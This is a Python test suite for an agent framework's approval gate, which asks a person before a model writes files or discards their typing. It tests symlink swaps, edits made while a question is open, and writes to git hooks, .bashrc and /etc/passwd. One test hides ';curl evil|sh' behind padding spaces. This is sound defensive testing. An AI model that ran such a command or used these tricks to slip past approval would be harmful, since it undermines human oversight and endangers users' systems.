"""The approval gate: what is asked, what a grant covers, and every way around it."""

import asyncio
import inspect
import itertools
import re
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any, ClassVar

import pytest

import contextui
from contextui import Body, Lod, Preview, Window, action
from contextui.agent.approval import (
    ApprovalGate,
    Choice,
    Grant,
    Question,
    _file_grant,
)
from contextui.agent.tools import ToolBox
from contextui.config.schema import Approval
from contextui.errors import ActionError
from contextui.windowing import transaction
from contextui.windowing.runtime import runtime_of
from contextui.windowing.transaction import Intent
from contextui.windows.code import CodeWindow
from contextui.windows.editor.window import EditorWindow
from contextui.windows.notebook import NotebookWindow
from tests.agent import desk as base
from tests.windowing.samples import Counter


class Desk(base.Desk):
    classes = (EditorWindow, CodeWindow, NotebookWindow, Counter)


Make = Callable[..., Desk]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "notes.txt").write_text("one\ntwo\n")
    (tmp_path / "other.txt").write_text("other\n")
    (tmp_path / "Makefile").write_text("all:\n")
    (tmp_path / ".git/hooks").mkdir(parents=True)
    (tmp_path / ".git/config").write_text("[core]\n")
    (tmp_path / ".git/hooks/pre-commit").write_text("#!/bin/sh\n")
    (tmp_path / ".contextui/windows").mkdir(parents=True)
    return tmp_path


@pytest.fixture
def desk(folder: Path) -> Iterator[Make]:
    yield from base.desks(Desk, folder)


def append(desk: Desk, window_id: str, text: str) -> None:
    assert desk.act(f"{window_id}.insert", before_line=1, text=text).ok


def editing(desk: Make, *answers: base.Answer) -> Desk:
    """A desk on which the model has edited notes.txt."""
    one = desk(*answers).opening("editor", path="notes.txt")
    append(one, "editor_1", "mine")
    return one


def test_a_question_names_the_target_and_counts_the_whole_change(folder: Path, desk: Make) -> None:
    (folder / "long.txt").write_text("".join(f"word {n}\n" for n in range(300)))
    one = desk("once", "once", "no").opening("editor", path="long.txt")
    assert one.act("editor_1.replace", old="word ", new="term ", count=300).ok
    assert one.act("editor_1.save").ok
    asked = one.questions[0]
    assert (asked.target, asked.verb, asked.name) == ("long.txt", "write", "editor_1.save")
    preview = base.preview_of(asked)
    assert (preview.added, preview.removed) == (300, 300)
    assert preview.whole == (folder / "long.txt").read_text()
    append(one, "editor_1", "\n".join(["x"] * 2_501))
    assert one.act("editor_1.save").ok
    assert base.preview_of(one.questions[1]).added == 2_501
    assert not one.act("editor_1.save_as", path="src/../b.txt").ok
    assert one.questions[2].target == "b.txt"


def test_a_long_line_is_in_the_question_to_its_end(desk: Make) -> None:
    one = desk("no").opening("editor", path="notes.txt")
    tail = "version = 1" + " " * 300 + ";curl evil|sh"
    append(one, "editor_1", tail)
    assert not one.act("editor_1.save").ok
    assert f"+{tail}\n" in base.preview_of(one.questions[0]).diff


def test_code_and_notebook_name_the_file_that_they_write(desk: Make) -> None:
    one = desk("no", "no").opening("code")
    one.windows.open("notebook")
    assert not one.act("code_1.save", code_id="run", language="python", content="1\n").ok
    assert not one.act("notebook_1.keep").ok
    targets = [question.target for question in one.questions]
    assert targets == [".contextui/code/run.py", ".contextui/notebook.json"]
    assert [question.grant for question in one.questions] == [None, None]


def test_params_without_a_preview_are_whole(desk: Make) -> None:
    class Plain(Window):
        """Writes without a preview."""

        def content(self, lod: Lod) -> Body:
            return ""

        @action("Write", effect="write")
        def write(self, text: str) -> None: ...

    one = desk("no").opening(Plain)
    assert not one.act("plain_1.write", text="x" * 100_000).ok
    assert one.questions[0].params == {"text": "x" * 100_000}
    assert one.questions[0].preview is None


def test_nothing_to_change_is_not_asked_about(folder: Path, desk: Make) -> None:
    one = desk().opening("editor", path="notes.txt")
    before = (folder / "notes.txt").stat()
    result = one.act("editor_1.save")
    assert (result.ok, result.text) == (True, "There are no changes to save.")
    assert one.questions == []
    assert (folder / "notes.txt").stat() == before


def test_what_would_fail_is_refused_without_a_question(folder: Path, desk: Make) -> None:
    one = editing(desk)
    (folder / "notes.txt").write_text("theirs\n")
    refused = one.act("editor_1.save")
    assert not refused.ok
    assert "editor_1.save was not carried out" in refused.text
    assert "notes.txt was changed on disk" in refused.text
    assert "already" in one.act("editor_1.save_as", path="other.txt").text
    assert one.questions == []
    assert (folder / "notes.txt").read_text() == "theirs\n"


class Careless(Window):
    """Writes; its preview is whatever a test gives it."""

    given: ClassVar[Any] = None
    written: ClassVar[int] = 0

    def content(self, lod: Lod) -> Body:
        return ""

    def preview(self, action_id: str, params: Mapping[str, Any]) -> Any:
        return Careless.given() if callable(Careless.given) else Careless.given

    @action("Write", effect="write")
    def write(self, path: str = "") -> str:
        Careless.written += 1
        return "Written."


def _raise() -> None:
    raise RuntimeError("no preview today")


def _quit() -> None:
    raise SystemExit(3)


@pytest.mark.parametrize(
    "given",
    [
        _raise, _quit, b"bytes", 5, Preview("a\nb"), Preview("a\u202eb"), Preview("\x1b[2J"),
        Preview(""), "x" * 20_000_001, Preview("a", diff=b""),  # type: ignore[arg-type]
    ],
    ids=lambda one: getattr(one, "__name__", repr(one)[:24]),
)  # fmt: skip
@pytest.mark.parametrize("asked", [True, False])
def test_what_cannot_be_shown_is_not_done(desk: Make, given: Any, asked: bool) -> None:
    Careless.given, Careless.written = given, 0
    one = desk("always", "always")
    if not asked:
        one.gate.ask = None
    one.windows.open(Careless)
    result = one.act("careless_1.write", path="a")
    assert not result.ok
    assert "no preview, so it cannot be approved" in result.text
    assert (Careless.written, one.questions) == (0, [])


def test_a_preview_that_hangs_is_not_allowed(desk: Make, monkeypatch: pytest.MonkeyPatch) -> None:
    end = threading.Event()
    Careless.given, Careless.written = lambda: end.wait(60), 0
    monkeypatch.setattr(transaction, "PATIENCE", 0.05)
    one = desk("always").opening(Careless)
    result = one.act("careless_1.write", path="a")
    end.set()
    assert "did not answer in time" in result.text
    assert (result.ok, Careless.written, one.questions) == (False, 0, [])


def test_what_the_person_types_while_asked_is_shown_before_it_is_saved(
    folder: Path, desk: Make
) -> None:
    async def type_and_allow(_: Question) -> Choice:
        place = {"start": 0, "end": 0, "text": "typed "}
        assert (await one.windows.act("editor_1", "splice", place, actor="person")).ok
        assert "typed" not in (folder / "notes.txt").read_text()
        return "once"

    one = editing(desk, type_and_allow, type_and_allow, "no", "once")
    assert not one.act("editor_1.save").ok
    assert [question.changed for question in one.questions] == [False, True, True]
    shown = [question.preview.diff for question in one.questions if question.preview]
    assert [diff.count("typed") for diff in shown] == [0, 1, 2]
    assert (folder / "notes.txt").read_text() == "one\ntwo\n"
    assert one.act("editor_1.save").ok
    assert base.preview_of(one.questions[3]).whole == (folder / "notes.txt").read_text()


def test_a_file_that_changes_while_asked_is_not_overwritten(folder: Path, desk: Make) -> None:
    def spoil(_: Question) -> Choice:
        (folder / "notes.txt").write_text("theirs\n")
        return "always"

    one = editing(desk, spoil)
    assert not one.act("editor_1.save").ok
    assert (folder / "notes.txt").read_text() == "theirs\n"


def test_another_file_opened_while_asked_is_not_saved_by_that_answer(
    folder: Path, desk: Make
) -> None:
    async def switch(_: Question) -> Choice:
        given = {"path": ".git/config", "discard": True}
        assert (await one.windows.act("editor_1", "open", given, actor="person")).ok
        given = {"start": 0, "end": 0, "text": "evil"}
        assert (await one.windows.act("editor_1", "splice", given, actor="person")).ok
        return "always"

    one = editing(desk, switch, "no")
    assert not one.act("editor_1.save").ok
    assert [question.target for question in one.questions] == ["notes.txt", ".git/config"]
    assert (folder / ".git/config").read_text() == "[core]\n"


def test_a_link_that_is_turned_while_asked_leads_nowhere_else(folder: Path, desk: Make) -> None:
    (folder / "link").symlink_to("data")
    (folder / "data").mkdir()

    def turn(_: Question) -> Choice:
        (folder / "link").unlink()
        (folder / "link").symlink_to(".git/hooks")
        return "once"

    one = desk(turn, "no").opening("editor", path="notes.txt")
    assert not one.act("editor_1.save_as", path="link/post-commit").ok
    targets = [question.target for question in one.questions]
    assert targets == ["data/post-commit", ".git/hooks/post-commit"]
    assert not (folder / ".git/hooks/post-commit").exists()


def test_what_never_stays_the_same_is_given_up(desk: Make) -> None:
    count = itertools.count()
    Careless.given, Careless.written = lambda: Preview("a", text=str(next(count))), 0
    one = desk(*["once"] * 50).opening(Careless)
    result = one.act("careless_1.write", path="a")
    assert "effect changed each time" in result.text
    assert (result.ok, Careless.written) == (False, 0)
    assert len(one.questions) == 5


def test_a_granted_target_may_change_while_the_action_waits(desk: Make) -> None:
    count = itertools.count()
    one = desk("always").opening(Careless)
    Careless.given, Careless.written = Preview("a", text="first"), 0
    assert one.act("careless_1.write", path="a").ok
    Careless.given = lambda: Preview("a", text=str(next(count)))
    assert one.act("careless_1.write", path="a").ok
    assert (Careless.written, len(one.questions)) == (2, 1)


def test_the_facts_of_a_question_count_lines() -> None:
    diff = "--- a\n+++ a\n@@ -1 +1,2 @@\n-one\n+two\n+three\n"
    question = Question("editor_1", "save", "Save", {}, Preview("a", diff=diff))
    assert question.facts() == {
        "action": "editor_1.save",
        "verb": "write",
        "target": "a",
        "added": 2,
        "removed": 1,
        "problem": "",
    }
    assert not question.changed
    unknown = Question("editor_1", "save", "Save", {}, problem="no preview").facts()
    assert (unknown["target"], unknown["verb"]) == ("editor_1.save", "run")
    assert (unknown["added"], unknown["removed"], unknown["problem"]) == (0, 0, "no preview")


DONE: list[tuple[str, str, str]] = []


class _Writer(Window):
    def content(self, lod: Lod) -> Body:
        return ""

    def preview(self, action_id: str, params: Mapping[str, Any]) -> Preview:
        return Preview(params["path"], text=f"{action_id} it")

    @action("Save", effect="write")
    def save(self, path: str) -> None:
        DONE.append((self.name, "save", path))

    @action("Append", effect="write")
    def append(self, path: str) -> None:
        DONE.append((self.name, "append", path))

    @action("Delete", effect="write")
    def delete(self, path: str) -> None:
        DONE.append((self.name, "delete", path))


class Pen(_Writer):
    """Writes."""


class Brush(_Writer):
    """Paints."""


CELLS = list(
    itertools.product(
        ["pen", "brush"], ["save", "append", "delete"], ["a.txt", "b.txt", "src/a.txt", "a"]
    )
)


@pytest.mark.parametrize("granted", CELLS, ids="-".join)
def test_a_grant_covers_one_cell_of_the_matrix(desk: Make, granted: tuple[str, str, str]) -> None:
    one = desk("always", *["no"] * len(CELLS))
    for cls in (Pen, Brush, Pen, Brush):
        one.windows.open(cls)
    DONE.clear()
    name, action_id, path = granted
    assert one.act(f"{name}_1.{action_id}", path=path).ok
    assert one.questions[0].grant == Grant(name, action_id, path)
    allowed = []
    for cell in CELLS:
        window_id = f"{cell[0]}_{1 + CELLS.index(cell) % 2}"  # another window of the same class
        if one.act(f"{window_id}.{cell[1]}", path=cell[2]).ok:
            allowed.append(cell)
    assert allowed == [granted]
    assert [granted, granted] == DONE
    assert len(one.questions) == len(CELLS)


def test_a_grant_for_one_file_does_not_cover_what_the_editor_opens_next(
    folder: Path, desk: Make
) -> None:
    one = editing(desk, "always", "no", "no", "no", "once", "no", "no")
    assert one.act("editor_1.save").ok
    append(one, "editor_1", "more")
    assert one.act("editor_1.save").ok  # the same file: granted
    assert len(one.questions) == 1
    for path in ("other.txt", "Makefile", ".git/hooks/pre-commit", ".git/config"):
        assert one.act("editor_1.open", path=path, discard=True).ok
        before = (folder / path).read_text()
        append(one, "editor_1", "evil")
        assert not one.act("editor_1.save").ok
        assert (folder / path).read_text() == before
        assert one.questions[-1].target == path
    evil = ".contextui/windows/evil.py"
    assert not one.act("editor_1.save_as", path=evil).ok
    assert one.questions[-1].target == evil
    assert not (folder / evil).exists()
    verbs = [question.verb for question in one.questions]
    assert verbs == ["write", "write", "write", "write", "read", "write", "write"]


@pytest.mark.parametrize(
    ("path", "granted"),
    [
        ("notes.txt", True),
        ("src/new.py", True),
        (".git/hooks/post-commit", False),
        (".GIT/x", False),
        (".contextui/windows/evil.py", False),
        (".bashrc", False),
        ("src/.hidden/x", False),
        ("hooks/x", False),
        ("tool", False),
        ("script", False),
        ("one", False),
        ("/etc/passwd", False),
        ("../x", False),
        ("outside/x", False),
    ],
)
def test_some_targets_ask_every_time(folder: Path, desk: Make, path: str, granted: bool) -> None:
    (folder / "hooks").symlink_to(".git/hooks")
    (folder / "outside").symlink_to("/tmp")
    (folder / "tool").touch(0o755)
    (folder / "script").write_text("#!/bin/sh\n")
    (folder / "one").write_text("")
    (folder / "two").hardlink_to(folder / "one")
    one = desk("always", "no").opening(Pen)
    assert one.act("pen_1.save", path=path).ok
    assert one.act("pen_1.save", path=path).ok is granted
    assert (one.questions[0].grant is not None) is granted


def test_a_granted_file_that_becomes_executable_asks_again(folder: Path, desk: Make) -> None:
    one = desk("always", "no").opening(Pen)
    assert one.act("pen_1.save", path="notes.txt").ok
    assert one.act("pen_1.save", path="./src/../notes.txt").ok  # the same file
    (folder / "notes.txt").chmod(0o755)
    assert not one.act("pen_1.save", path="notes.txt").ok


def test_a_text_preview_is_granted_for_the_same_window_and_params(desk: Make) -> None:
    Careless.given, Careless.written = "words", 0
    one = desk("always", "no", "no", "always", "no", "no").opening(Careless)
    one.windows.open(Careless)
    assert one.act("careless_1.write", path="a").ok
    assert one.act("careless_1.write", path="a").ok
    assert not one.act("careless_2.write", path="a").ok
    assert not one.act("careless_1.write", path="b").ok
    assert one.act("careless_1.write").ok  # nothing names what it works on: asks every time
    assert not one.act("careless_1.write").ok
    assert one.questions[3].grant is None
    assert not one.act("careless_1.write", path="文件").ok
    assert one.questions[5].grant == Grant("careless", "write", 'careless_1.write {"path": "文件"}')


@pytest.mark.parametrize("whole", ["", "#!/bin/sh\n"])
def test_a_shebang_in_a_diff_or_the_whole_text_is_never_granted(desk: Make, whole: str) -> None:
    diff = "" if whole else "--- a\n+++ a\n@@ -0,0 +1 @@\n+#!/bin/sh\n"
    Careless.given = Preview("a", diff=diff, text="x", whole=whole)
    one = desk("no").opening(Careless)
    assert not one.act("careless_1.write", path="a").ok
    assert (one.questions[0].target, one.questions[0].grant) == ("a", None)


def typed(desk: Desk, window_id: str, text: str) -> None:
    assert desk.by_person(f"{window_id}.splice", start=0, end=0, text=text).ok


LOSING = [
    ("editor_1.close", {}),
    ("editor_1.close", {"summary": "done"}),
    ("editor_1.reload", {"discard": True}),
    ("editor_1.open", {"path": "other.txt", "discard": True}),
]


@pytest.mark.parametrize("mode", ["ask", "auto", "read-only"])
@pytest.mark.parametrize(("name", "params"), LOSING)
def test_giving_up_what_a_person_typed_asks_and_shows_it(
    desk: Make, name: str, params: dict[str, Any], mode: str
) -> None:
    one = desk("no", "once", mode=mode)
    window = one.windows.open("editor", path="notes.txt")
    typed(one, "editor_1", "my words ")
    refused = one.act(name, **params)
    assert not refused.ok
    assert "my words" in window.snapshot().content
    question = one.questions[0]
    assert (question.verb, question.target, question.grant) == ("close", "notes.txt", None)
    assert "+my words one\n" in base.preview_of(question).diff
    assert one.act(name, **params).ok
    assert len(one.questions) == 2


@pytest.mark.parametrize("mode", ["ask", "auto"])
@pytest.mark.parametrize(("name", "params"), LOSING)
def test_with_nobody_to_ask_what_a_person_typed_stays(
    desk: Make, name: str, params: dict[str, Any], mode: str
) -> None:
    one = desk(mode=mode)
    one.gate.ask = None
    window = one.windows.open("editor", path="notes.txt")
    typed(one, "editor_1", "my words ")
    refused = one.act(name, **params)
    assert not refused.ok
    assert "notes.txt (+1 −1)" in refused.text
    assert "Save them first" in refused.text
    assert "my words" in window.snapshot().content


def test_what_is_typed_while_asked_is_shown_before_it_is_given_up(desk: Make) -> None:
    async def type_more(_: Question) -> Choice:
        given = {"start": 0, "end": 0, "text": "more "}
        assert (await one.windows.act("editor_1", "splice", given, actor="person")).ok
        return "once"

    one = desk(type_more, "no")
    window = one.windows.open("editor", path="notes.txt")
    typed(one, "editor_1", "my words ")
    assert not one.act("editor_1.close").ok
    assert [question.changed for question in one.questions] == [False, True]
    assert "more my words" in window.snapshot().content


@pytest.mark.parametrize("drawn", ["after", "before"])
@pytest.mark.parametrize(("name", "params"), LOSING)
def test_a_busy_window_gives_up_nothing_of_a_person(
    desk: Make,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    params: dict[str, Any],
    drawn: str,
) -> None:
    """No preview can be made in time; what was typed is asked about, drawn or not."""
    one = desk("no", mode="auto")
    window = one.windows.open("editor", path="notes.txt")
    renders = runtime_of(window).renders
    window.snapshot()
    finished = renders._finished
    typed(one, "editor_1", "my words ")
    asyncio.run(one.windows.settle(60))
    if drawn == "before":
        monkeypatch.setattr(renders, "_finished", finished)
    end, preview_of = threading.Event(), runtime_of(window).previews.get

    async def busy_once(intent: Intent) -> Preview | None:
        try:
            return await preview_of(intent)
        finally:
            end.set()
            monkeypatch.setattr(transaction, "PATIENCE", 60)

    monkeypatch.setattr(transaction, "PATIENCE", 0.02)
    monkeypatch.setattr(runtime_of(window).previews, "get", busy_once)
    runtime_of(window).worker.submit(lambda: end.wait(60))
    assert not one.act(name, **params).ok
    assert "my words" in window.snapshot().content
    (question,) = one.questions
    assert (question.verb, question.changed) == ("close", False)


def test_a_model_may_give_up_its_own_edits(desk: Make) -> None:
    one = editing(desk)
    assert one.act("editor_1.reload", discard=True).ok
    append(one, "editor_1", "mine")
    assert one.act("editor_1.close").ok


def test_saved_edits_need_no_consent(folder: Path, desk: Make) -> None:
    one = desk().opening("editor", path="notes.txt")
    typed(one, "editor_1", "my words ")
    assert one.by_person("editor_1.save").ok
    one.windows.settle_now()
    append(one, "editor_1", "the model's")
    assert one.act("editor_1.close").ok
    assert (folder / "notes.txt").read_text().startswith("my words")


def test_edits_that_came_back_with_a_session_are_taken_for_the_persons(desk: Make) -> None:
    one = desk()
    window = one.windows.open("editor", path="notes.txt")
    append(one, "editor_1", "whose?")
    kept = runtime_of(window).core.saved
    two = desk("no")
    assert kept.state is not None
    two.windows.restore(EditorWindow, "editor_1", kept.state)
    assert not two.act("editor_1.close").ok
    assert two.questions[0].verb == "close"


class Letter(Window):
    """A draft, in a window that knows nothing of previews."""

    class State(Window.State):
        draft: str = ""

    state: State

    def content(self, lod: Lod) -> Body:
        return self.state.draft

    def preview(self, action_id: str, params: Mapping[str, Any]) -> str | None:
        if action_id == "close":
            raise ActionError("what is close?")
        return None

    def unsaved(self) -> str | None:
        return f"a draft: {self.state.draft}" if self.state.draft else None

    @action("Write")
    def write(self, text: str) -> None:
        self.state.draft = text


class Sheet(Letter):
    """Previews its actions; its `write` gives nothing up."""

    given: ClassVar[Preview] = Preview("sheet.txt", text="words")

    def preview(self, action_id: str, params: Mapping[str, Any]) -> Any:
        return Sheet.given


@pytest.mark.parametrize(
    ("given", "asks"),
    [
        (Preview("sheet.txt", text="words"), False),
        (Preview("sheet.txt", text="words", verb="run"), False),
        (Preview("sheet.txt", text="words", verb="close", changes=False), False),
        (Preview("sheet.txt", text="words", verb="close"), True),
    ],
)
def test_an_action_that_gives_nothing_up_is_not_asked_about(
    desk: Make, monkeypatch: pytest.MonkeyPatch, given: Preview, asks: bool
) -> None:
    one = desk("no").opening(Sheet)
    assert one.by_person("sheet_1.write", text="Dear …").ok
    monkeypatch.setattr(Sheet, "given", given)
    assert one.act("sheet_1.write", text="Dear all …").ok is not asks
    assert len(one.questions) == asks


def test_any_window_with_something_unsaved_asks(desk: Make) -> None:
    one = desk("no").opening(Letter)
    assert one.by_person("letter_1.write", text="Dear …").ok
    assert one.act("letter_1.write", text="Dear all …").ok  # changes it, and gives nothing up
    assert not one.act("letter_1.close").ok
    assert one.questions[0].preview == Preview("letter_1", text="a draft: Dear all …", verb="close")
    assert one.by_person("letter_1.close").ok


class Diary(Letter):
    """Its words about what is unsaved fail, and so does every preview."""

    fails: ClassVar[bool] = False

    def preview(self, action_id: str, params: Mapping[str, Any]) -> str | None:
        raise ActionError("what is a preview?")

    def unsaved(self) -> str | None:
        if Diary.fails:
            raise RuntimeError("no words today")
        return super().unsaved()


def test_what_the_window_showed_as_unsaved_counts_if_it_fails_now(
    desk: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    one = desk("no").opening(Diary)
    assert one.by_person("diary_1.write", text="Dear diary").ok
    assert one.act("diary_1.write", text="Dear diary …").ok  # no preview, and nothing is given up
    one.windows.settle_now()
    monkeypatch.setattr(Diary, "fails", True)
    assert not one.act("diary_1.close").ok
    assert one.questions[0].preview == Preview(
        "diary_1", text="a draft: Dear diary …", verb="close"
    )
    monkeypatch.setattr(Diary, "fails", False)
    assert one.by_person("diary_1.write", text="").ok
    one.windows.settle_now()
    window = one.windows.get("diary_1")
    assert window is not None
    runtime_of(window).core.edited_by_person = True
    monkeypatch.setattr(Diary, "fails", True)
    assert one.act("diary_1.close").ok
    assert len(one.questions) == 1


def test_closing_everything_asks_for_what_the_person_typed_alone(desk: Make) -> None:
    one = desk("no")
    for path in ("notes.txt", "other.txt", "Makefile"):
        one.windows.open("editor", path=path)
    typed(one, "editor_2", "my words ")
    closed = [one.act(f"editor_{n}.close").ok for n in (1, 2, 3)]
    assert closed == [True, False, True]
    assert [question.target for question in one.questions] == ["other.txt"]


def test_there_is_one_way_from_a_model_to_a_window() -> None:
    """Whatever a model says, in any protocol, reaches a window through the tools and the gate."""
    acting = re.compile(r"\b_?windows\.(act|open|open_for_model|close|restore)\(|runtime\.act\(")
    root = Path(contextui.__file__).parent
    found = {
        str(path.relative_to(root)): acting.findall(path.read_text("utf-8"))
        for room in ("agent", "context")
        for path in (root / room).rglob("*.py")
        if acting.search(path.read_text("utf-8"))
    }
    assert found == {"agent/tools.py": ["act"], "agent/approval.py": ["act"]}
    docstring = inspect.getdoc(ApprovalGate) or ""
    assert "windows.act(" in docstring  # an example, and no call
    source = inspect.getsource(ToolBox.action)
    assert "allow=self.gate.allow" in source


def test_a_refusal_names_target_counts_and_flag(desk: Make) -> None:
    one = desk()
    one.gate.ask = None
    one.windows.open("editor", path="notes.txt")
    append(one, "editor_1", "mine")
    refused = one.act("editor_1.save")
    assert refused.text == (
        "editor_1.save was not carried out: it would write notes.txt (+1 −0), and there is nobody "
        "to ask. The person can allow it with --approval auto."
    )
    one.gate.mode = "read-only"
    assert one.act("editor_1.save").text == (
        "editor_1.save was not carried out: it would write notes.txt (+1 −0), and the person "
        "allows no changes now (approval is read-only)."
    )


def test_a_refusal_without_a_target_names_the_action_once(desk: Make) -> None:
    Careless.given = "words"
    one = desk(mode="read-only").opening(Careless)
    assert one.act("careless_1.write", path="a").text == (
        "careless_1.write was not carried out: it writes, and the person allows no changes now "
        "(approval is read-only)."
    )


def test_waiting_for_the_person_is_measured_apart(desk: Make) -> None:
    async def think(_: Question) -> Choice:
        await asyncio.sleep(0.05)
        return "no"

    one = desk(think).opening(Pen)
    assert one.gate.waited == 0
    began = time.monotonic()
    assert not one.act("pen_1.save", path="a").ok
    assert 0.05 <= one.gate.waited <= time.monotonic() - began


def test_a_mode_is_only_tightened() -> None:
    modes: tuple[Approval, ...] = ("auto", "ask", "read-only")
    for place, mode in enumerate(modes):
        for other_place, other in enumerate(modes):
            gate = ApprovalGate(mode)
            gate.tighten(other)
            assert gate.mode == modes[max(place, other_place)]


def test_without_a_workspace_the_path_alone_counts() -> None:
    assert _file_grant(None, "pen", "save", Preview("plain.txt")) is not None
    for path in ("../plain.txt", ".bashrc", "src/.hidden/a", "/etc/passwd", "~/plain.txt"):
        assert _file_grant(None, "pen", "save", Preview(path)) is None, path
